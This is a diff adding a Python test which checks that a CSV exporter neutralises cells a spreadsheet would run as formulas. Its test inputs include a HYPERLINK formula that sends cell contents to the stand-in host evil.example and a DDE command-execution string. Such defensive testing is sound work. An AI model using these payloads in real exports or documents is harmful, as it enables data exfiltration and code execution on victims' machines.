@@ -58,3 +58,22 @@ def test_csv_and_json_exports_round_trip(sop: Any, scenario: Scenario) -> None:
     assert (drill.speed, drill.duration_s, drill.escalations, drill.ended_at is not None) == (60.0, 3900.0, 5, True)
     assert csv_text.splitlines()[0] == ("run,sop,version,sop_hash,sop_class,trigger,started_at,ended_at,outcome,"
                                         "deadline,escalations,repeats,speed,duration_s,drill")
+
+
+def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_written_inert_and_reads_back() -> None:
+    from dataclasses import dataclass
+
+    from flows.audit.export import to_csv
+
+    @dataclass
+    class Line:
+        why: str
+        n: int
+
+    texts = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "+1", "-2", "@SUM(A1)",
+             "\tx", "'=already quoted", "'plain", "plain", ""]
+    written = to_csv([Line(text, -3) for text in texts], ["why", "n"])
+    cells = [row.split(",")[0] for row in written.splitlines()[1:]]
+    assert all(not cell.lstrip('"').startswith(("=", "+", "-", "@", "\t")) for cell in cells), cells
+    assert "'=HYPERLINK" in written and ",-3" in written  # a number stays a number
+    assert [line.why for line in from_csv(written, Line)] == texts
